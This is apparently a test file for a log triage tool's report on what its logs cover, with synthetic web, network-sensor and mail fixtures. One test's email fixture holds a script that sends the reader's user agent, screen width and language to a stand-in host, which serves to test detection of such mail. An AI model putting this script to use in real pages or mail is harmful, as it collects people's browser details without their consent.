/** What a report says it could not see: of which kinds, from when to when, and what would let it see more. */
import { describe, expect, test } from "vitest";
import { renderHistogram } from "../src/report/html-histogram.ts";
import type { ReportDocument } from "../src/report/model.ts";
import { temporaryFolder, write } from "./support/files.ts";
import { combined } from "./support/lines.ts";
import { triageDocument } from "./support/triage.ts";

const folder = temporaryFolder();
const sentence = (document: ReportDocument, clause: string) =>
  document.coverage.find((row) => row.clause === clause)?.sentence ?? "";
const web = (name: string, ...times: readonly string[]) =>
  write(
    folder,
    name,
    times.map((time) => combined({ time })),
  );
const http = (n: number, day: string) =>
  JSON.stringify({
    timestamp: `2026-05-${day}T10:05:${String(n).padStart(2, "0")}.000000+0000`,
    event_type: "http",
    src_ip: `198.51.100.${10 + (n % 4)}`,
    dest_ip: "203.0.113.9",
    http: {
      hostname: `www${n % 7}.example.org`,
      url: "/",
      http_user_agent: "x/1",
      http_method: "GET",
      status: 200,
    },
  });
const mail = (name: string, day: string, text = "At noon?", more = "") =>
  write(
    folder,
    name,
    `From: a@partner.test\nTo: b@corp.test\nSubject: hello\nMessage-ID: <${name}@x>\nDate: ${day} May 2026 10:05:03 +0000\n${more}\n${text}\n`,
  );

describe("begin and end", () => {
  test("are compared with the kinds that reach further, and with no others", async () => {
    const document = await triageDocument([
      web("week.log", "17/May/2026:10:05:03 +0000", "27/May/2026:10:05:03 +0000"),
      write(folder, "late.json", [http(1, "25"), http(2, "27")]),
      mail("late.eml", "26"),
    ]);
    expect(sentence(document, "LS2")).toContain("begins 8 days after the other logs (web)");
    expect(sentence(document, "LS2")).not.toContain("mail");
    expect(sentence(document, "LS1")).not.toContain("other logs");
  });

  test("of what lies apart are told beside what overlaps", async () => {
    const document = await triageDocument([
      web("first.log", "01/May/2026:10:05:03 +0000", "02/May/2026:10:05:03 +0000"),
      write(folder, "then.json", [http(1, "20"), http(2, "27")]),
      mail("then.eml", "26"),
    ]);
    expect(sentence(document, "LS2")).toContain("all of it lies behind the other logs (web)");
    expect(sentence(document, "LS1")).toContain("all of it lies before the other logs (mail, nids)");
  });
});

test("a network whose addresses browse past a sensor is named, until it is known to be inside", async () => {
  const log = write(
    folder,
    "browse.json",
    Array.from({ length: 20 }, (_, n) => http(n, "17")),
  );
  const said =
    "4 addresses of 198.51.100.0/24 ask 7 hosts like users inside do, and are not looked at; where that is your own network, run again with --internal 198.51.100.0/24";
  expect(sentence(await triageDocument([log]), "LS2")).toContain(said);
  const known = await triageDocument([log], { internalNetworks: ["198.51.100.0/24"] });
  expect(sentence(known, "LS2")).not.toContain("--internal");
});

test("strangers who ask this site under its names are no such network", async () => {
  const lines = Array.from({ length: 20 }, (_, n) => http(n, "17"));
  const others = lines.map((line) => line.replaceAll("198.51.100.", "203.0.113."));
  expect(
    sentence(await triageDocument([write(folder, "names.json", [...lines, ...others])]), "LS2"),
  ).not.toContain("--internal");
});

describe("mail alone", () => {
  test("answers what mail can show, and says what it cannot", async () => {
    const document = await triageDocument([mail("alone.eml", "17")]);
    // Mail is all that the question names; that nobody raised an alert is no gap.
    expect(document.questions.find(({ id }) => id === "Q3")).toMatchObject({ answer: "no" });
    expect(document.questions.find(({ id }) => id === "Q1")).toMatchObject({
      answer: "cannot_tell",
      sentence: expect.stringContaining("Not seen: web, proxy."),
    });
  });

  test("has a time line, of records", async () => {
    const document = await triageDocument([mail("time.eml", "17")]);
    expect(document.histogram_of).toBe("record");
    expect(document.histogram).toEqual([{ time: "2026-05-17T10:00:00.000Z", requests: 1, flagged: 0 }]);
    expect(renderHistogram(document.histogram, "UTC", document.histogram_of)).toContain("Records over time");
  });

  test.each([
    ["Please tell us your browser version.", "asks for browser and version, in 1 mail to 1 recipient; "],
  ])("says in plain words what a mail does: %s", async (text, says) => {
    const document = await triageDocument([mail("asks.eml", "17", text)]);
    expect(document.findings[0]?.sentence).toContain(says);
  });

  test("says so of a script", async () => {
    const script =
      "<script>fetch('https://x.example/?'+navigator.userAgent+screen.width+navigator.language)</script>";
    const document = await triageDocument([mail("script.eml", "17", script, "Content-Type: text/html\n")]);
    expect(document.findings[0]?.sentence).toMatch(
      /^a@partner\.test brings a script that reads [a-z ,]+, in 1 mail to 1 recipient; /,
    );
  });
});
